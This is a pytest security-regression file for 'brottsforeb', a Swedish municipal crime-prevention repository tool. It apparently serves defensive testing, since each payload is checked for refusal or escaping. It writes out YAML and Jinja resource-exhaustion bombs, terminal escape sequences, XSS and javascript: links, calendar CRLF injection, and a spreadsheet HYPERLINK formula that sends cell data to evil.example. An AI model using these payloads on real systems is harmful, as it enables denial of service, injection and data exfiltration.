"""Issue #16, second round: each observed attack, widened to its class.

Every test here failed on the main of 2026-11-22 before the fix it names; docs/robusthet.md
lists them next to the guarantee they prove.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import git
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from brottsforeb import _yaml, load_repo, validate
from brottsforeb.batch import validate_many
from brottsforeb.history import minutes, to_markdown

from .conftest import MINIMAL, examples, write_repo

PNR = "900101-0009"  # a valid personnummer (Luhn); the test data's own, no one's
PNR_DIGITS = "9001010009"
ESC = "\x1b]0;hacked\x07\x1b[2J\x9b31m"


def bfa(
    *args: str | Path, cwd: Path | None = None, timeout: int = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "brottsforeb", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=cwd,
        env={**os.environ, "COLUMNS": "200", "NO_COLOR": "1"},
        check=False,
    )


def no_crash(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode in (0, 1, 2), (proc.returncode, proc.stderr[-2000:])
    assert "Traceback" not in proc.stderr
    assert "internt fel" not in proc.stderr, proc.stderr


def commit(repo: git.Repo, message: str, author: str = "Samordnaren") -> str:
    repo.git.add(A=True)
    actor = git.Actor(author, "samordnare@example.se")
    return repo.index.commit(message, author=actor, committer=actor).hexsha


# -- crashes: nesting, aliases, dying workers, any exception ------------------------------

DEEP_SHAPES = {
    "flow list": lambda n: "namn: " + "[" * n + "]" * n + "\n",
    "flow map": lambda n: "namn: " + "{a: " * n + "1" + "}" * n + "\n",
    "block list on one line": lambda n: "namn: x\nledamöter:\n" + "  " + "- " * n + "x\n",
    "complex keys": lambda n: "? " * n + "x\n",
    "mixed": lambda n: "namn: " + "[{b: " * (n // 2) + "1" + "}]" * (n // 2) + "\n",
    "unclosed": lambda n: "namn: " + "[" * n + "\n",
}


@pytest.mark.parametrize("depth", [30_000, 100_000])
@pytest.mark.parametrize("shape", list(DEEP_SHAPES))
def test_deep_nesting_is_a_finding_before_libyaml_sees_it(shape: str, depth: int) -> None:
    # Before: libyaml's C composer recursed ~30 000 deep and the process died (exit 139).
    text = DEEP_SHAPES[shape](depth)
    parsed = _yaml.parse(text, "organ/x.yaml")
    assert [f.rule for f in parsed.findings] == ["YAML-STORLEK"]
    assert "nästlingen" in parsed.findings[0].message
    assert "Alias" not in parsed.findings[0].hint  # no aliases were used


def test_deep_block_indentation_is_a_finding() -> None:
    text = "".join(" " * i + "a:\n" for i in range(2000)) + " " * 2000 + "b: 1\n"
    assert [f.rule for f in _yaml.parse(text, "x.yaml").findings] == ["YAML-STORLEK"]


def test_ordinary_nesting_is_still_read() -> None:
    text = "namn: " + "[" * 30 + "x" + "]" * 30 + "\n"
    parsed = _yaml.parse(text, "x.yaml")
    assert parsed.findings == [] and parsed.data["namn"]


def test_deep_file_in_every_command_and_in_history(make_repo) -> None:
    root = make_repo({"organ/djup.yaml": "namn: " + "[" * 30_000 + "]" * 30_000 + "\n"})
    repo = git.Repo.init(root)
    commit(repo, "Djup fil")
    for args in (["validate"], ["check"], ["status"], ["render", "organisation"], ["minutes"]):
        proc = bfa(*args, cwd=root)
        no_crash(proc)
    proc = bfa("validate", cwd=root)
    assert proc.returncode == 1 and "YAML-STORLEK" in proc.stdout


def test_alias_expansion_is_bounded_in_bytes() -> None:
    # Before: 2 000 aliases to one 800 KB scalar passed the 100 000-value limit (11 GB).
    text = "namn: &a '" + "x" * 800_000 + "'\nanmärkning: [" + ", ".join(["*a"] * 2000) + "]\n"
    parsed = _yaml.parse(text, "organ/x.yaml")
    assert [f.rule for f in parsed.findings] == ["YAML-STORLEK"]
    assert "miljoner tecken" in parsed.findings[0].message
    assert parsed.data is None


def test_validate_many_survives_a_worker_dying(tmp_path: Path, monkeypatch) -> None:
    # Before: one worker's death (the segfault above) lost every repository's report.
    if sys.platform == "win32":
        pytest.skip("fork is needed to plant the dying worker")
    import brottsforeb.batch as batch

    roots = []
    for name in ("a", "b", "dor", "d"):
        roots.append(write_repo(tmp_path / name, dict(MINIMAL)))
    real = batch._validate_one

    def dies_on_dor(root: Path):  # type: ignore[no-untyped-def]
        if root.name == "dor":
            os._exit(139)
        return real(root)

    monkeypatch.setattr(batch, "_validate_one", dies_on_dor)
    results = validate_many([tmp_path], jobs=2)
    by_name = {r.root.name: r for r in results}
    assert set(by_name) == {"a", "b", "dor", "d"}
    assert [f.rule for f in by_name["dor"].findings] == ["BFA-AVBRUTEN"]
    for name in ("a", "b", "d"):
        assert by_name[name].findings == [] and by_name[name].files > 0


@pytest.mark.parametrize("jobs", [1, 2])
def test_overview_survives_a_worker_dying(tmp_path: Path, monkeypatch, jobs: int) -> None:
    # Before: batch.map_roots (bfa overview) lost every repository's row when one worker
    # died, and with -j1 one repository's bug ended the whole overview.
    if sys.platform == "win32":
        pytest.skip("fork is needed to plant the dying worker")
    import brottsforeb.overview as ov_mod

    for name in ("a", "b", "dor", "d"):
        write_repo(tmp_path / name, dict(MINIMAL))
    real = ov_mod._row

    def dies_on_dor(args):  # type: ignore[no-untyped-def]
        if args[0].name == "dor":
            if jobs == 1:
                raise RuntimeError("bug")
            os._exit(139)
        return real(args)

    monkeypatch.setattr(ov_mod, "_row", dies_on_dor)
    ov = ov_mod.overview([tmp_path], dt.date(2026, 6, 1), jobs=jobs)
    by_label = {r.label: r for r in ov.rows}
    assert set(by_label) == {"a", "b", "dor", "d"}
    assert by_label["dor"].failed and by_label["dor"].action_plan is None
    for name in ("a", "b", "d"):
        assert by_label[name].failed is None and by_label[name].name != name
    text = ov_mod.to_markdown(ov)
    assert "Kontrollen av förrådet avbröts" in text
    failed = {m["label"]: m["failed"] for m in json.loads(ov_mod.to_json(ov))["municipalities"]}
    assert failed["a"] is None and failed["dor"]
    assert ov_mod.to_csv(ov).splitlines()[0].endswith(",avbruten")


def test_every_exception_class_is_the_swedish_internal_error(monkeypatch, capsys) -> None:
    # Before: a BaseException that is not an Exception (pyo3's PanicException) ended in a
    # full traceback.
    import brottsforeb.cli as cli

    class Panic(BaseException):
        pass

    def boom(**_: object) -> None:
        raise Panic("called `Result::unwrap()` on an `Err` value " + ESC)

    monkeypatch.setattr(cli, "app", boom)
    with pytest.raises(SystemExit) as exit_:
        cli.main()
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "internt fel (Panic" in err and "\x1b" not in err


# -- hangs: special files, templates --------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_fifo_and_link_to_fifo_never_block(make_repo) -> None:
    root = make_repo()
    os.mkfifo(root / "fifo")
    (root / "organ" / "ror.yaml").symlink_to(root / "fifo")
    os.mkfifo(root / "organ" / "direkt.yaml")
    proc = bfa("validate", "--format", "json", cwd=root, timeout=60)
    no_crash(proc)
    found = {(f["file"], f["rule"]) for f in json.loads(proc.stdout)["findings"]}
    assert ("organ/ror.yaml", "FIL-TYP") in found
    assert ("organ/direkt.yaml", "FIL-TYP") in found


TEMPLATE_BOMBS = {
    "nested ranges": "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
    "{% endfor %}",
    "silent nested loops": "{% set r = range(1000)|list %}{% for a in r %}{% for b in r %}"
    "{% for c in r %}{% endfor %}{% endfor %}{% endfor %}",
    "string times a huge number": '{{ "x" * 3000000000 }}',
    "list times a huge number": "{{ ([1] * 3000000000)|length }}",
    "center filter": '{{ "x"|center(3000000000) }}',
    "concatenation": '{% set a = "xxxxxxxxxx" %}{% set b = a~a~a~a~a~a~a~a~a~a %}'
    "{% set c = b~b~b~b~b~b~b~b~b~b %}{% set d = c~c~c~c~c~c~c~c~c~c %}"
    "{% set e = d~d~d~d~d~d~d~d~d~d %}{% set f = e~e~e~e~e~e~e~e~e~e %}"
    "{% set g = f~f~f~f~f~f~f~f~f~f %}{% set h = g~g~g~g~g~g~g~g~g~g %}{{ h|length }}",
    "recursion": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(1) }}",
    "power": "{{ 10 ** 100000000 }}",
}


@pytest.mark.parametrize("name", list(TEMPLATE_BOMBS))
def test_repository_templates_run_within_limits(make_repo, cli, name: str) -> None:
    root = make_repo({"templates/organisation.md.j2": TEMPLATE_BOMBS[name]})
    result = cli("render", "organisation", root)
    assert result.exit_code == 2
    assert "Mallen avbröts" in result.output


_PEAK = """
import os, subprocess, sys
proc = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
err = proc.stderr.read()
_pid, status, usage = os.wait4(proc.pid, 0)
scale = 1024 * 1024 if sys.platform == "darwin" else 1024
sys.stdout.write(f"{os.waitstatus_to_exitcode(status)} {usage.ru_maxrss // scale}\\n")
sys.stdout.flush()
sys.stdout.buffer.write(err)
"""


def peak(*args: str | Path, cwd: Path) -> tuple[int, str, int]:
    """Run bfa; (exit code, stderr, peak memory in MB of it and every process it started).

    Measured by a small Python in between: a child forked from this (large) test process
    would otherwise count the test process's own pages in its peak."""
    proc = subprocess.run(
        [sys.executable, "-c", _PEAK, sys.executable, "-m", "brottsforeb", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        env={**os.environ, "COLUMNS": "200", "NO_COLOR": "1"},
        check=False,
        timeout=300,
    )
    head, _, err = proc.stdout.partition(b"\n")
    code, mb = (int(x) for x in head.split())
    return code, err.decode("utf-8", "replace"), mb


#: Single operations in C that no loop counter or clock check sees until they end.
C_LEVEL_MEMORY = {
    "printf width": '{{ "%0999999999d"|format(1) }}',
    "format-spec width": '{{ "{:>999999999}".format(1) }}',
    "join of a repeated big value": '{{ (["x" * 4000000] * 200)|join|length }}',
    "indent of many lines": '{{ ("x\n" * 2000000)|indent(4000)|length }}',
    "replace that multiplies": '{{ ("x" * 4000000)|replace("x", "x" * 4000000)|length }}',
}


@pytest.mark.skipif(not hasattr(os, "wait4"), reason="peak memory is read with wait4")
@pytest.mark.parametrize("name", list(C_LEVEL_MEMORY))
def test_one_c_level_operation_in_a_template_is_bounded_in_memory(make_repo, name) -> None:
    # Before: "%0999999999d"|format peaked at 993 MB before the size guard saw the result.
    root = make_repo({"templates/organisation.md.j2": C_LEVEL_MEMORY[name]})
    code, err, mb = peak("render", "organisation", cwd=root)
    assert code == 2 and "Mallen" in err and "Traceback" not in err, err
    assert mb < 400, f"{name}: {mb} MB"


@pytest.mark.parametrize(
    "expression",
    [
        '{{ "%0999999999d" % 1 }}',
        '{{ "%.999999999f" % 1 }}',
        '{{ "%*d" % (999999999, 1) }}',
        '{{ "%0999999999d"|format(1) }}',
        '{{ "{:>999999999}".format(1) }}',
        '{{ "{0:0999999999d}".format(1) }}',
        "{{ lipsum(4999999) }}",
    ],
)
def test_format_widths_and_lipsum_are_refused_in_process(make_repo, cli, monkeypatch, expression):
    # Before: without fork (macOS, Windows) these hung at 1 GB: the width is in the string.
    import brottsforeb.render._isolate as isolate

    monkeypatch.setattr(isolate, "can_isolate", lambda: False)
    root = make_repo({"templates/organisation.md.j2": expression})
    result = cli("render", "organisation", root)
    assert result.exit_code == 2
    assert "Mallen avbröts" in result.output or "lipsum" in result.output, result.output


C_LEVEL_TIME = {
    "wordwrap of one long word": '{{ ("x" * 4000000)|wordwrap(1)|length }}',
    "regular expression-free quadratic filter": '{{ ("x" * 3000000)|wordwrap(2)|length }}',
}


@pytest.mark.skipif(not hasattr(os, "fork"), reason="the hard time limit needs fork")
@pytest.mark.parametrize("name", list(C_LEVEL_TIME))
def test_one_c_level_operation_in_a_template_is_bounded_in_time(
    make_repo, cli, monkeypatch, name
) -> None:
    # Before: wordwrap(1) over a 4 MB word ran for minutes inside one filter call.
    import brottsforeb.render._env as env_mod

    monkeypatch.setattr(env_mod, "MAX_SECONDS", 1.0)
    root = make_repo({"templates/organisation.md.j2": C_LEVEL_TIME[name]})
    result = cli("render", "organisation", root)
    assert result.exit_code == 2
    assert "Mallen avbröts: den tog mer än 1 sekunder" in result.output


@pytest.mark.parametrize(
    "expression",
    ['{{ "x".split("") }}', '{{ "x"|filesizeformat }}', '{{ "x"|xmlattr }}', "{{ 1 / 0 }}"],
)
def test_a_template_error_at_run_time_is_the_templates_fault(make_repo, cli, expression) -> None:
    # Before (in a child): "internt fel (ValueError)"; the template is broken, not bfa.
    root = make_repo({"templates/organisation.md.j2": expression})
    result = cli("render", "organisation", root)
    assert result.exit_code == 2
    assert "Mallen för 'organisation' är trasig" in result.output


@pytest.mark.skipif(not hasattr(os, "wait4"), reason="peak memory is read with wait4")
def test_a_huge_document_is_refused_before_typst(make_repo) -> None:
    # Before: a template writing 4 MB of text made Typst take 1.5 GB and 35 s.
    root = make_repo(
        {
            "templates/organisation.md.j2": '{% for i in range(20000) %}{{ "x" * 40 }}\n\n'
            "{% endfor %}"
        }
    )
    code, err, mb = peak("render", "organisation", "--format", "pdf", "-o", "x.pdf", cwd=root)
    assert code == 2 and "för stort för en PDF" in err, err
    assert mb < 400 and not (root / "x.pdf").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_template_that_is_a_fifo_or_too_big_is_refused(make_repo, cli) -> None:
    # Before: a FIFO (or a link to /dev/zero) was passed over for bfa's own template without
    # a word; a 300 MB template was read whole (920 MB).
    root = make_repo()
    (root / "templates").mkdir()
    os.mkfifo(root / "templates" / "organisation.md.j2")
    assert ("templates/organisation.md.j2", "FIL-TYP") in {
        (f.file, f.rule) for f in validate(load_repo(root))
    }
    result = cli("render", "organisation", "--draft", root)
    assert result.exit_code == 2 and "ingen vanlig fil" in result.output
    (root / "templates" / "organisation.md.j2").unlink()
    (root / "templates" / "organisation.md.j2").write_text("{# " + "x" * 1_000_001 + " #}")
    result = cli("render", "organisation", "--draft", root)
    assert result.exit_code == 2 and "större än 1000 kB" in result.output


def test_personnummer_in_a_repository_template_is_refused(make_repo, cli) -> None:
    root = make_repo({"templates/organisation.md.j2": f"Kontakt: {PNR}\n"})
    result = cli("render", "organisation", "--public", root)
    assert result.exit_code == 2
    assert PNR not in result.output and "90****-****" in result.output


# -- history: blob sizes, forged metadata, revisions, read-only -----------------------------


@pytest.fixture
def history(tmp_path: Path) -> tuple[Path, git.Repo]:
    root = write_repo(tmp_path / "kommun", dict(MINIMAL))
    repo = git.Repo.init(root)
    commit(repo, "Första versionen")
    return root, repo


MEASURE = """
import resource, subprocess, sys, json
p = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=300)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(json.dumps({"rc": p.returncode, "out": p.stdout, "err": p.stderr, "kb": peak}))
"""


@pytest.mark.skipif(sys.platform == "win32", reason="resource is POSIX")
def test_minutes_never_reads_a_huge_blob_whole(history) -> None:
    # Before: a 400 MB file in history (420 KB packed) made minutes peak at 450 MB.
    root, repo = history
    with (root / "organ" / "stor.yaml").open("wb") as fh:
        fh.write(b"namn: '")
        chunk = b"x" * (1 << 20)
        for _ in range(200):
            fh.write(chunk)
        fh.write(b"'\n")
    commit(repo, "Stor fil")
    (root / "organ" / "stor.yaml").write_text("namn: Liten\ntyp: styrgrupp\n", encoding="utf-8")
    commit(repo, "Liten igen")
    proc = subprocess.run(
        [
            sys.executable,
            "-c",
            MEASURE,
            sys.executable,
            "-m",
            "brottsforeb",
            "minutes",
            "--since",
            "HEAD~2",
            root,
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    out = json.loads(proc.stdout)
    assert out["rc"] in (0, 1), out["err"]
    assert out["kb"] < 150_000, out["kb"]  # a 200 MB blob read whole would exceed this


def test_forged_author_and_control_characters_in_commits(history) -> None:
    # Before: an author containing bfa's field separator forged date and message, and a
    # message with 0x1E was an internal error; ESC/BEL/OSC reached the terminal raw.
    root, repo = history
    path = root / "organ" / "styrgrupp.yaml"
    path.write_text(path.read_text().replace("Styrgrupp", "Styrgruppen"), encoding="utf-8")
    forged = "Mallory\x1f0\x1fFÖRFALSKAT\x1e"
    sha = commit(repo, f"Nytt namn\x1e{ESC} av {PNR}", author=forged + ESC)
    m = minutes(root, "HEAD~1", "HEAD")
    [change] = [c for c in m.changes if c.id == "styrgrupp"]
    [info] = change.commits
    assert info.sha == sha
    assert (
        info.date
        == dt.datetime.fromtimestamp(repo.commit(sha).authored_date, dt.UTC).date().isoformat()
    )
    assert "FÖRFALSKAT" in info.author  # shown as the author, not parsed as a message
    text = to_markdown(m, "Protokoll") + info.message + info.author
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert PNR not in text and PNR_DIGITS not in text
    for args in (["minutes"], ["minutes", "--format", "json"], ["log", "styrgrupp"]):
        proc = (
            bfa(*args, "--since", "HEAD~1", cwd=root)
            if args[0] == "minutes"
            else bfa(*args, cwd=root)
        )
        no_crash(proc)
        assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
        assert PNR not in proc.stdout


@pytest.mark.parametrize("rev", ["0" * 40, "@{-1}", "master@{yesterday}", "finns-inte", "HEAD~99"])
def test_unresolvable_revisions_are_a_swedish_error(history, rev: str) -> None:
    root, _ = history
    proc = bfa("minutes", "--since", rev, cwd=root)
    no_crash(proc)
    assert proc.returncode == 2 and "finns inte" in proc.stderr


def test_log_and_minutes_without_commits(make_repo) -> None:
    root = make_repo()
    git.Repo.init(root)
    for args in (["log", "styrgrupp"], ["minutes"]):
        proc = bfa(*args, cwd=root)
        no_crash(proc)
        assert proc.returncode == 2 and "inga incheckningar" in proc.stderr


def _snapshot(root: Path) -> dict[str, str]:
    out = {}
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            st = p.lstat()
            out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest() + str(
                st.st_mtime_ns
            )
    return out


def test_read_only_commands_leave_every_byte_of_the_repository(history, tmp_path: Path) -> None:
    # Before: bfa minutes refreshed .git/index (git status does unless told not to).
    root, _repo = history
    path = root / "organ" / "styrgrupp.yaml"
    path.write_text(path.read_text().replace("Styrgrupp", "Styrgruppen"), encoding="utf-8")
    os.utime(root / "bfa.yaml", ns=(1, 1))  # a stat change git status would record
    before = _snapshot(root)
    out = tmp_path / "ut"
    for args in (
        ["validate"],
        ["check"],
        ["status"],
        ["render", "organisation", "-o", out / "org.md"],
        ["minutes"],
        ["log", "styrgrupp"],
        ["calendar", "-o", out / "k.ics"],
    ):
        no_crash(bfa(*args, cwd=root))
    assert _snapshot(root) == before


# -- escaping the repository ----------------------------------------------------------------


def test_symlinked_folders_leaving_the_repository(make_repo, tmp_path: Path, cli) -> None:
    outside = tmp_path / "hemligt"
    (outside / "org").mkdir(parents=True)
    (outside / "org" / "hemlig.yaml").write_text("namn: HEMLIGT\ntyp: styrgrupp\n")
    (outside / "mallar").mkdir()
    (outside / "mallar" / "organisation.md.j2").write_text("### HEMLIGT\n")
    root = make_repo()
    for folder in ("aktorer", "templates", "atgarder"):
        shutil.rmtree(root / folder, ignore_errors=True)
    (root / "aktorer").symlink_to(outside / "org", target_is_directory=True)
    (root / "templates").symlink_to(outside / "mallar", target_is_directory=True)
    found = {(f.file, f.rule) for f in validate(load_repo(root))}
    assert ("aktorer/", "FIL-LANK") in found
    assert not any("hemlig" in file for file, _ in found)
    result = cli("render", "organisation", root)
    assert "HEMLIGT" not in result.output
    (root / "atgarder").symlink_to(outside / "org", target_is_directory=True)
    result = cli("new", "atgard", "Ny åtgärd", root)
    assert result.exit_code == 2
    assert sorted(p.name for p in (outside / "org").iterdir()) == ["hemlig.yaml"]


def test_init_does_not_write_through_links(tmp_path: Path, cli) -> None:
    outside = tmp_path / "utanfor"
    outside.mkdir()
    target = tmp_path / "ny"
    target.mkdir()
    (target / "organ").symlink_to(outside, target_is_directory=True)
    result = cli("init", target, "--name", "Testby kommun")
    assert result.exit_code == 2
    assert list(outside.iterdir()) == []


# -- injection and terminal escapes ---------------------------------------------------------


def test_newline_and_code_fence_in_a_name_never_reach_the_document(make_repo, cli) -> None:
    # Before: an indicator name with newlines and a fence went raw into the Mermaid comment.
    hostile = 'Klotter\n```\n<img src=x onerror=alert(1)>\n[x](javascript:alert(1))\n%% "'
    root = make_repo(
        {
            "indikatorer/klotter.yaml": "namn: " + json.dumps(hostile) + "\n"
            "källa: {typ: polisens statistik}\nenhet: antal\nriktning: minska\n"
            "frekvens: {antal: 1, per: år}\nmätvärden:\n  - {år: 2024, värde: 40}\n"
            "  - {år: 2025, värde: 30}\n"
        }
    )
    found = [f for f in validate(load_repo(root)) if f.file == "indikatorer/klotter.yaml"]
    assert any("en rad" in f.message for f in found)
    result = cli("render", "uppfoljning", "--year", "2025", root)
    for line in result.output.splitlines():
        assert not line.lstrip().startswith(("<img", "```\n")), line
        assert "<img" not in line or "\\<img" in line or "#lt;img" in line, line
        assert "](javascript:" not in line, line


def test_terminal_escapes_are_shown_visibly(make_repo) -> None:
    root = make_repo(
        {
            "organ/styrgrupp.yaml": MINIMAL_STYRGRUPP.replace(
                "okänd: x", '"okänd\\e]0;hacked\\a\\e[2J\\x9b": x'
            )
        }
    )
    proc = bfa("validate", cwd=root)
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "\x9b" not in proc.stdout
    assert "\\x1b" in proc.stdout


MINIMAL_STYRGRUPP = (
    "namn: Styrgrupp\ntyp: styrgrupp\nuppdrag: u\nmandat: m\nordförande: kommundirektor\n"
    "sammankallande: samordnare\nledamöter: [kommundirektor, kommunpolis, samordnare]\n"
    "möten: {antal: 2, per: år}\nokänd: x\n"
)


# -- personal data --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "written",
    [
        "900101-0009",
        "900101 0009",
        "900101\u20130009",
        "900101\u20110009",
        "19900101-0009",
        "199001010009",
        "x-199001010009-y",
    ],
)
def test_personnummer_found_with_any_separator_and_never_echoed(
    make_repo, cli, written: str
) -> None:
    # Before: only - and + were separators; other findings on the value printed it in full.
    root = make_repo(
        {
            "organ/styrgrupp.yaml": MINIMAL_STYRGRUPP.replace(
                "okänd: x", f"okänd-{written}: x"
            ).replace("sammankallande: samordnare", f"sammankallande: s{written}"),
            "funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: {written}\n",
        }
    )
    for fmt in ("human", "json", "github"):
        result = cli("validate", "--format", fmt, root)
        assert result.exit_code == 1
        out = result.output
        digits = written[-4:]
        assert written not in out
        assert f"01{digits}" not in out and f"-{digits}" not in out
        assert "PERSONNUMMER" in out


def test_personnummer_in_a_file_name(make_repo) -> None:
    root = make_repo({f"atgarder/fall-{PNR}.yaml": "titel: x\n"})
    findings = validate(load_repo(root))
    assert any(f.rule == "PERSONNUMMER" for f in findings)
    assert not any(PNR in (f.file + f.message) for f in findings)


#: How Word, Excel, a PDF copy or a YAML escape writes 900101-0009 (the test data's own).
PNR_SHAPES = {
    "period": "900101.0009",
    "slash": "900101/0009",
    "underscore": "900101_0009",
    "spaced dash": "900101 - 0009",
    "double dash": "900101--0009",
    "thin space": "900101\u20090009",
    "narrow no-break space": "900101\u202f0009",
    "figure space": "900101\u20070009",
    "full-width hyphen": "900101\uff0d0009",
    "dash and zero-width space": "900101-\u200b0009",
    "zero-width joiner inside the date": "9001\u200d01-0009",
    "soft hyphen": "900101\u00ad0009",
    "full-width digits": "９００１０１－０００９",
    "tab": "900101\t0009",
    # glued to other digits, as pasted into a diary or case number
    "digit before": "2024-0519900101-0009",
    "digit after": "900101-00091",
    "century and digit after": "19900101-00093",
    "digits both sides": "7900101-00095",
    "plus glued": "3900101+0009",
}


@pytest.mark.parametrize("name", list(PNR_SHAPES))
def test_personnummer_with_every_separator_word_and_excel_write(make_repo, name) -> None:
    # Before: each of these passed validate and reached render --public in full.
    written = PNR_SHAPES[name]
    root = make_repo({"funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: x {written}\n"})
    findings = validate(load_repo(root))
    assert [f.rule for f in findings if f.rule == "PERSONNUMMER"] == ["PERSONNUMMER"], name
    from brottsforeb._pii import mask

    assert "0009" not in mask(f"Kontakt {written}.")


YAML_HIDDEN_PNR = {
    "hex escape": '"Kontakt 900101\\x2D0009"',
    "unicode escape": '"Kontakt 900101\\u002d0009"',
    "tab escape": '"Kontakt 900101\\t0009"',
    "line continuation": '"Kontakt 19900101\\\n    0009"',
    "folded plain scalar": "Kontakt 19900101\n    0009",
    "folded block scalar": ">\n    Kontakt 19900101\n    0009",
}


@pytest.mark.parametrize(
    "number",
    [
        "1199001010009",  # thirteen digits without a dash: an account number, not a pnr
        "0560-123456-1234",  # a phone number and an extension
        "2024-05-06-1230",  # a date and a time
        "900101-00",  # too short
        "19900101-0008",  # the check digit does not match
    ],
)
def test_long_numbers_without_a_valid_personnummer_are_left_alone(make_repo, number) -> None:
    root = make_repo({"funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: x {number}\n"})
    assert not [f for f in validate(load_repo(root)) if f.rule == "PERSONNUMMER"]
    from brottsforeb._pii import mask

    assert mask(number) == number


@pytest.mark.parametrize("name", list(YAML_HIDDEN_PNR))
def test_personnummer_hidden_by_yaml_escapes_is_found_in_the_loaded_value(
    make_repo, cli, name
) -> None:
    # Before: the raw-text scan missed these; render --public printed the number in full.
    root = make_repo(
        {"funktioner/samordnare.yaml": f"titel: Samordnare\nnivå: {YAML_HIDDEN_PNR[name]}\n"}
    )
    found = [f for f in validate(load_repo(root)) if f.rule == "PERSONNUMMER"]
    assert len(found) == 1 and found[0].file == "funktioner/samordnare.yaml"
    assert found[0].line == 2
    result = cli("validate", "--format", "json", root)
    assert result.exit_code == 1 and "0009" not in result.output


def test_personnummer_in_a_key_hidden_by_an_escape(make_repo) -> None:
    root = make_repo(
        {"funktioner/samordnare.yaml": 'titel: Samordnare\n"x\\x2019900101-0009": 1\n'}
    )
    assert any(f.rule == "PERSONNUMMER" for f in validate(load_repo(root)))


def test_set_refuses_a_value_that_loads_to_a_personnummer(make_repo, cli) -> None:
    # Before: `bfa set bfa namn '"Anna 800101\x2D1231"'` wrote it and exited 0.
    root = make_repo()
    before = (root / "bfa.yaml").read_bytes()
    result = cli("set", "bfa", "namn", '"Anna 900101\\x2D0009"', "-C", root)
    assert result.exit_code == 1 and "PERSONNUMMER" in result.output
    assert "0009" not in result.output
    assert (root / "bfa.yaml").read_bytes() == before


@pytest.mark.parametrize(
    "args",
    [
        ["new", "aktor", "Anna 900101-0009"],
        ["new", "aktor", "Anna 900101.0009", "--id", "anna"],
        ["new", "aktor", "Anna", "--id", "x-900101-0009"],
        ["new", "organ", "Grupp 19900101 0009"],
    ],
)
def test_new_refuses_a_personnummer_in_the_name_or_id(make_repo, args) -> None:
    # Before: `bfa new aktor "Anna 800101-1231"` created aktorer/anna-800101-1231.yaml.
    root = make_repo()
    files = sorted(p for p in root.rglob("*") if p.is_file())
    proc = bfa(*args, cwd=root)
    assert proc.returncode == 2 and "personnummer" in proc.stderr
    assert "0009" not in proc.stderr + proc.stdout
    assert sorted(p for p in root.rglob("*") if p.is_file()) == files


@pytest.mark.parametrize(
    "args",
    [
        ["log", PNR],
        ["calendar", "--meeting", PNR],
        ["render", "atgardsplan", "--id", PNR],
        ["set", PNR, "namn", "x"],
        ["check", "--today", PNR],
        ["validate", PNR],
        ["render", f"x{PNR}"],
        ["new", "mote", PNR, "--date", "2026-01-01"],
        ["overview", "--today", PNR],
    ],
)
def test_no_error_message_echoes_a_personnummer_from_the_command_line(history, args) -> None:
    # Before: every `bfa: fel:` line printed the argument in full (into CI logs).
    root, _repo = history
    proc = bfa(*args, cwd=root)
    no_crash(proc)
    assert proc.returncode != 0
    assert "0009" not in proc.stderr + proc.stdout, proc.stderr


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_overview_csv_cells_never_start_a_formula(tmp_path: Path, start: str) -> None:
    # Before: a name '=HYPERLINK("http://evil.example/?"&A1,"Klicka")' reached the CSV as is.
    import csv
    import io

    from brottsforeb.overview import overview, to_csv

    payload = f'{start}HYPERLINK("http://evil.example/?"&A1;"Klicka")'
    files = dict(MINIMAL)
    files["bfa.yaml"] = files["bfa.yaml"].replace(
        "namn: Testby kommun", "namn: " + json.dumps(payload)
    )
    write_repo(tmp_path / "a", files)
    write_repo(tmp_path / "b", dict(MINIMAL))
    rows = list(csv.reader(io.StringIO(to_csv(overview([tmp_path], dt.date(2026, 6, 1))))))
    names = [row[1] for row in rows[1:]]
    assert "Testby kommun" in names
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("länk", "javascript:alert(document.cookie)"),
        ("länk", "data:text/html,<script>x</script>"),
        ("länk", "teams.microsoft.com/x"),
        ("plats", '"Rum 1\\r\\nATTENDEE:mailto:evil@example.com"'),
        ("tid", '"13:00\\nX"'),
    ],
)
def test_meeting_links_and_one_line_fields(make_repo, key: str, value: str) -> None:
    # Before: länk: javascript:… became the calendar event's URL; plats took CR/LF.
    root = make_repo()
    path = root / "moten" / "2025" / "2025-03-01-styrgrupp.yaml"
    if not path.exists():
        write_repo(
            root, {"moten/2025/2025-03-01-styrgrupp.yaml": "organ: styrgrupp\ndatum: 2025-03-01\n"}
        )
    path.write_text(path.read_text(encoding="utf-8") + f"{key}: {value}\n", encoding="utf-8")
    found = [f for f in validate(load_repo(root)) if f.file.endswith("styrgrupp.yaml")]
    assert any(f.rule == "SCHEMA" for f in found), found


def test_good_links_are_accepted(make_repo) -> None:
    root = make_repo(
        {
            "moten/2025/2025-03-01-styrgrupp.yaml": "organ: styrgrupp\ndatum: 2025-03-01\n"
            "länk: https://teams.microsoft.com/l/meetup-join/x\nplats: Rum 1\n"
        }
    )
